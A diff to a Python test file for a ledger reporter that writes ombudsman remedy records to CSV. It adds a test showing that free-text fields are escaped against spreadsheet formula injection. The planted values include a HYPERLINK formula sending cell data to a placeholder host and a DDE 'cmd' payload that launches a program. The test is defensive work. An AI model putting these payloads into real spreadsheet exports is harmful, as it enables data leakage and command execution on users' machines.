@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 from fake_api import LEDGER_ROWS, TEAMS, FakeApi, ledger_row
 
 from services.reporter.api_models import OmbudsmanLedger, Team
 from services.reporter.client import ApiClient
+from services.reporter.csv_cells import FORMULA_STARTS
 from services.reporter.financial_year import FinancialYear
 from services.reporter.ledger import (
     LEDGER_CSV_HEADER,
@@ -32,6 +35,11 @@ def ledger(rows: list[dict[str, object]], as_of: str = "2019-04-30") -> Ombudsma
 
 def make(rows: list[dict[str, object]] = LEDGER_ROWS, as_of: str = "2019-04-30") -> LedgerReport:
     return assemble_ledger(TEAM_LIST, ledger(rows, as_of), YEAR, GENERATED)
+
+
+def csv_file_rows(report: LedgerReport) -> list[list[str]]:
+    text = ledger_files(report)[1].content.decode("utf-8")
+    return list(csv.reader(io.StringIO(text, newline="")))
 
 
 def test_a_row_names_its_team_and_prints_money_in_pounds() -> None:
@@ -95,24 +103,29 @@ def test_the_json_names_its_year_and_day() -> None:
 
 def test_csv_has_one_row_per_remedy_under_the_header() -> None:
     report = make()
-    rows = ledger_csv_rows(report)
-    assert LEDGER_CSV_HEADER == [
-        "ombudsman_reference",
-        "complaint_reference",
-        "service",
-        "team",
-        "decision_date",
-        "decision",
-        "public_interest_report",
-        "remedy_type",
-        "description",
-        "amount_pounds",
-        "payee_label",
-        "due_date",
-        "completed_date",
-        "status",
-        "days_late",
-    ]
+    assert len(ledger_csv_rows(report)) == 3
+    header, *rows = csv_file_rows(report)
+    assert (
+        header
+        == LEDGER_CSV_HEADER
+        == [
+            "ombudsman_reference",
+            "complaint_reference",
+            "service",
+            "team",
+            "decision_date",
+            "decision",
+            "public_interest_report",
+            "remedy_type",
+            "description",
+            "amount_pounds",
+            "payee_label",
+            "due_date",
+            "completed_date",
+            "status",
+            "days_late",
+        ]
+    )
     assert len(rows) == 3
     assert rows[1] == [
         "18 000 871",
@@ -142,3 +155,36 @@ def test_compiling_makes_two_calls_and_passes_the_day() -> None:
     assert api.stats_paths() == ["/v1/reference/teams", "/v1/stats/ombudsman-ledger"]
     assert api.requests[1].url.params["as_of"] == "2019-03-31"
     assert report.as_of == date(2019, 3, 31)
+
+
+def test_free_text_reaches_the_ledger_csv_as_text_never_as_formulas() -> None:
+    planted = {
+        "lgsco_reference": '=HYPERLINK("http://example.invalid/?"&A1,"18 000 871")',
+        "complaint_reference": "+cmd|' /C calc'!A0",
+        "description": "-2+3 a remedy that reads as a sum",
+        "payee_label": "@SUM(1+1)",
+    }
+    tabbed = {"description": "\t=1+1", "payee_label": "\r=1+1"}
+    report = make([ledger_row(**planted), ledger_row(remedy_id=32, **tabbed)])
+    rows = csv_file_rows(report)
+    header = rows[0]
+    first = dict(zip(header, rows[1], strict=True))
+    second = dict(zip(header, rows[2], strict=True))
+    assert first["ombudsman_reference"] == "'" + planted["lgsco_reference"]
+    assert first["complaint_reference"] == "'" + planted["complaint_reference"]
+    assert first["description"] == "'" + planted["description"]
+    assert first["payee_label"] == "'" + planted["payee_label"]
+    assert (second["description"], second["payee_label"]) == ("'\t=1+1", "'\r=1+1")
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    # The figures beside them are written as figures.
+    assert (first["amount_pounds"], first["due_date"], first["days_late"]) == (
+        "200.00",
+        "2018-12-20",
+        "",
+    )
+
+
+def test_a_negative_figure_in_the_ledger_csv_stays_a_number() -> None:
+    report = make([ledger_row(amount_pence=-1050, days_late=-3)])
+    row = dict(zip(LEDGER_CSV_HEADER, csv_file_rows(report)[1], strict=True))
+    assert (row["amount_pounds"], row["days_late"]) == ("-10.50", "-3")
